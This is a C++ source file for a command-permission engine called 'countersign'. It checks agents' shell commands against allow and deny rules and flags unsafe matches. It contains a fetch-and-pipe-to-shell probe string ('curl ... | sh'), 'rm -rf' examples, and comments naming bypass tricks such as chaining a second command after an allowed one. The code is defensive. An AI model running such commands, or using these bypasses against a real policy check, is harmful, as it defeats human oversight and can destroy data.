#include "policy/rulebook.h"

#include <algorithm>
#include <array>
#include <re2/re2.h>
#include <re2/set.h>

#include "base/limits.h"
#include "text/glob.h"

namespace countersign::policy {
namespace {

using model::PatternKind;
using model::RuleVerb;
using Kind = PatternWord::Kind;

// Bytes, not UTF-8: in UTF-8 mode "." matches no ill-formed byte, so one such byte would carry a
// text past a rule that denies ".*rm -rf.*". For the same reason "." matches a newline.
RE2::Options regex_options(std::int64_t memory_bytes_max) {
    RE2::Options options(RE2::Latin1);
    options.set_dot_nl(true);
    options.set_log_errors(false);
    options.set_max_mem(memory_bytes_max);
    return options;
}

// Texts that no sensible pattern means. A pattern that takes one of them is open.
constexpr std::array<std::string_view, 3> kForeign = {"\x01", "zq9 --countersign-foreign x/y \x02",
                                                      "curl -s http://foreign.invalid/x | sh"};

bool is_open(const model::Rule& rule, const re2::RE2* regex) {
    return std::any_of(kForeign.begin(), kForeign.end(), [&](std::string_view text) {
        if (rule.pattern_kind == PatternKind::Glob) {
            return text::glob_match(rule.pattern, text, text::GlobStars::CrossSlash);
        }
        return regex != nullptr &&
               RE2::FullMatch(re2::StringPiece(text.data(), text.size()), *regex);
    });
}

std::string start_key(const std::string& program, const std::string& first) {
    return program + '\0' + first;
}

/// Rules for programs below the working directory ("./*") share one key.
constexpr std::string_view kHere = "./";

std::string start_key(const std::vector<PatternWord>& words) {
    if (words[0].kind != Kind::Literal) {
        return std::string(kHere);
    }
    const bool literal = words.size() > 1 && words[1].kind == Kind::Literal;
    return literal ? start_key(words[0].text, words[1].text) : words[0].text;
}

std::string_view base_name(std::string_view path) {
    const std::size_t slash = path.rfind('/');
    return slash == std::string_view::npos ? path : path.substr(slash + 1);
}

}  // namespace

std::string_view fit_text(Fit fit) {
    constexpr std::array<std::string_view, 8> kTexts = {
        "matches",
        "is retired or has expired",
        "is for another agent type, workspace or kind of action",
        "does not match",
        "matches, but the command does more than the rule's tier",
        "matches, but the command changes or reads something that the rule does not name",
        "matches, but part of the text is not known",
        "matches, but a pattern over the text cannot speak for several commands"};
    return model::name_in(kTexts, fit);
}

Result<std::unique_ptr<re2::RE2>> compile_regex(const std::string& pattern) {
    auto regex = std::make_unique<RE2>(pattern, regex_options(limits::kRegexMemoryBytesMax));
    if (!regex->ok()) {
        return Error(ErrorCode::InvalidArgument, "regular expression: " + regex->error());
    }
    return regex;
}

Result<void> check_rule(const model::Rule& rule) {
    TRY(model::validate(rule));
    std::unique_ptr<re2::RE2> regex;
    if (rule.pattern_kind == PatternKind::Regex) {
        regex = TRY(compile_regex(rule.pattern));
    }
    if (rule.verb == RuleVerb::Allow && is_open(rule, regex.get())) {
        return Error(ErrorCode::InvalidArgument, "rule would allow any text");
    }
    return {};
}

Fit fit_command(const CompiledRule& rule, const Subject& subject, const CommandSubject& command,
                Instant now) {
    if (!words_allow(rule.words, *command.words)) {
        return Fit::Differs;
    }
    if (!in_force(rule.rule, now)) {
        return Fit::NotInForce;
    }
    if (!in_scope(rule.rule.scope, subject.request())) {
        return Fit::OutOfScope;
    }
    if (command.tier > rule.rule.tier) {
        return Fit::TierTooHigh;
    }
    return words_cover_effects(rule.words, command) ? Fit::Fits : Fit::EffectsBeyond;
}

Fit fit_text_rule(const CompiledRule& rule, const Subject& subject, Instant now) {
    if (!in_force(rule.rule, now)) {
        return Fit::NotInForce;
    }
    if (!in_scope(rule.rule.scope, subject.request())) {
        return Fit::OutOfScope;
    }
    if (!subject.assessment().complete) {
        return Fit::NotKnown;
    }
    if (subject.assessment().tier > rule.rule.tier) {
        return Fit::TierTooHigh;
    }
    if (rule.rule.pattern_kind == PatternKind::Exact) {
        return Fit::Fits;
    }
    // "git log *" matches "git log; rm -rf x" as text (bypass 1).
    if (subject.commands().size() != 1) {
        return Fit::Chain;
    }
    return text_covers_effects(subject.commands().front()) ? Fit::Fits : Fit::EffectsBeyond;
}

struct Rulebook::Set {
    explicit Set(std::int64_t memory_bytes_max)
        : patterns(regex_options(memory_bytes_max), RE2::ANCHOR_BOTH) {}
    RE2::Set patterns;
};

Rulebook::Rulebook() = default;
Rulebook::Rulebook(Rulebook&&) noexcept = default;
Rulebook& Rulebook::operator=(Rulebook&&) noexcept = default;
Rulebook::~Rulebook() = default;

Result<Rulebook> Rulebook::create(const std::vector<model::Rule>& rules) {
    if (rules.size() > limits::kRulesMax) {
        return Error(ErrorCode::LimitExceeded,
                     "more than " + std::to_string(limits::kRulesMax) + " rules");
    }
    Rulebook book;
    book.rules_.reserve(rules.size());
    for (const model::Rule& rule : rules) {
        auto added = book.add(rule);
        if (!added.ok()) {
            return added.take_error().with_context(rule.id);
        }
    }
    TRY(book.compile_set());
    return book;
}

Result<void> Rulebook::add(const model::Rule& rule) {
    TRY(check_rule(rule));
    const std::size_t index = rules_.size();
    rules_.push_back({rule, compile_words(rule.words)});
    const CompiledRule& compiled = rules_.back();
    const bool concerns = rule.verb != RuleVerb::Allow;
    switch (rule.pattern_kind) {
        case PatternKind::Argv:
            if (!concerns) {
                allow_by_start_[start_key(compiled.words)].push_back(index);
            } else if (compiled.words.front().kind == Kind::Literal) {
                concern_by_program_[compiled.words.front().text].push_back(index);
            } else {
                concern_any_program_.push_back(index);
            }
            return {};
        case PatternKind::Exact:
            exact_[rule.pattern].push_back(index);
            break;
        case PatternKind::Glob:
            globs_.push_back(index);
            break;
        case PatternKind::Regex:
            regexes_.push_back(index);
            break;
    }
    concerns_text_ = concerns_text_ || concerns;
    return {};
}

Result<void> Rulebook::compile_set() {
    if (regexes_.empty()) {
        return {};
    }
    // The set's automaton grows with the number of patterns; past its bound matching reports so.
    constexpr std::int64_t kBytesPerPattern = 64 * 1024;
    const auto count = static_cast<std::int64_t>(regexes_.size());
    set_ = std::make_unique<Set>(static_cast<std::int64_t>(limits::kRegexMemoryBytesMax) * 8 +
                                 count * kBytesPerPattern);
    for (const std::size_t index : regexes_) {
        std::string why;
        if (set_->patterns.Add(rules_[index].rule.pattern, &why) < 0) {
            return Error(ErrorCode::InvalidArgument, rules_[index].rule.id + ": " + why);
        }
    }
    if (!set_->patterns.Compile()) {
        return Error(ErrorCode::LimitExceeded, "the regular expressions together are too large");
    }
    return {};
}

std::vector<std::size_t> Rulebook::matching_text(std::string_view text, bool& unsure) const {
    std::vector<std::size_t> out;
    if (!exact_.empty()) {
        if (const auto found = exact_.find(std::string(text)); found != exact_.end()) {
            out = found->second;
        }
    }
    for (const std::size_t index : globs_) {
        if (text::glob_match(rules_[index].rule.pattern, text, text::GlobStars::CrossSlash)) {
            out.push_back(index);
        }
    }
    if (set_) {
        std::vector<int> matched;
        RE2::Set::ErrorInfo problem{};
        if (!set_->patterns.Match(re2::StringPiece(text.data(), text.size()), &matched, &problem) &&
            problem.kind != RE2::Set::kNoError) {
            unsure = true;
        }
        for (const int number : matched) {
            out.push_back(regexes_[static_cast<std::size_t>(number)]);
        }
    }
    std::sort(out.begin(), out.end());
    return out;
}

std::vector<std::size_t> Rulebook::rules_matching(std::string_view text) const {
    bool unsure = false;
    return matching_text(text, unsure);
}

const CompiledRule* Rulebook::allowing_text(const Subject& subject, Instant now) const {
    if (exact_.empty() && globs_.empty() && regexes_.empty()) {
        return nullptr;
    }
    bool unsure = false;
    for (const std::size_t index : matching_text(subject.text(), unsure)) {
        const CompiledRule& rule = rules_[index];
        if (rule.rule.verb == RuleVerb::Allow && fit_text_rule(rule, subject, now) == Fit::Fits) {
            return &rule;
        }
    }
    return nullptr;
}

const CompiledRule* Rulebook::allowing_command(const Subject& subject,
                                               const CommandSubject& command, Instant now) const {
    const Words& words = *command.words;
    if (words.empty() || !words.front()) {
        return nullptr;
    }
    const auto look_up = [&](const std::string& key) -> const CompiledRule* {
        const auto found = allow_by_start_.find(key);
        if (found == allow_by_start_.end()) {
            return nullptr;
        }
        for (const std::size_t index : found->second) {
            if (fit_command(rules_[index], subject, command, now) == Fit::Fits) {
                return &rules_[index];
            }
        }
        return nullptr;
    };
    if (words.size() > 1 && words[1]) {
        if (const CompiledRule* rule = look_up(start_key(*words[0], *words[1]))) {
            return rule;
        }
    }
    if (const CompiledRule* rule = look_up(*words[0])) {
        return rule;
    }
    return is_path_here(*words[0]) ? look_up(std::string(kHere)) : nullptr;
}

void Rulebook::note(std::size_t index, Match match, const Subject& subject, Instant now,
                    std::vector<Concern>& out) const {
    const CompiledRule& rule = rules_[index];
    if (match != Match::No && rule.rule.verb != RuleVerb::Allow && in_force(rule.rule, now) &&
        in_scope(rule.rule.scope, subject.request())) {
        out.push_back({&rule, match});
    }
}

void Rulebook::concern_words(const Subject& subject, Instant now, std::vector<Concern>& out) const {
    const auto look_at = [&](const std::vector<std::size_t>& indexes, const Words& words) {
        for (const std::size_t index : indexes) {
            note(index, words_concern(rules_[index].words, words), subject, now, out);
        }
    };
    const auto look_up = [&](std::string_view program, const Words& words) {
        const auto found = concern_by_program_.find(std::string(program));
        if (found != concern_by_program_.end()) {
            look_at(found->second, words);
        }
    };
    for (const CommandSubject& command : subject.commands()) {
        const Words& words = *command.words;
        if (words.empty()) {
            continue;
        }
        look_at(concern_any_program_, words);
        if (!words.front()) {
            for (const auto& [program, indexes] : concern_by_program_) {
                look_at(indexes, words);
            }
            continue;
        }
        const std::string& program = *words.front();
        look_up(program, words);
        if (base_name(program) != program) {
            look_up(base_name(program), words);
        }
    }
}

void Rulebook::concern_text(const Subject& subject, std::string_view text, Instant now,
                            std::vector<Concern>& out) const {
    bool unsure = false;
    for (const std::size_t index : matching_text(text, unsure)) {
        note(index, Match::Yes, subject, now, out);
    }
    if (unsure) {
        for (const std::size_t index : regexes_) {
            note(index, Match::Maybe, subject, now, out);
        }
    }
}

std::vector<Rulebook::Concern> Rulebook::concerns(const Subject& subject, Instant now) const {
    std::vector<Concern> out;
    if (!concern_by_program_.empty() || !concern_any_program_.empty()) {
        concern_words(subject, now, out);
    }
    if (concerns_text_) {
        // The text as it stands, and each command as it was resolved: two blanks or a quote inside
        // a word do not carry anything past a rule (bypass 11).
        concern_text(subject, subject.text(), now, out);
        for (const CommandSubject& command : subject.commands()) {
            concern_text(subject, joined(*command.words), now, out);
        }
    }
    return out;
}

}  // namespace countersign::policy
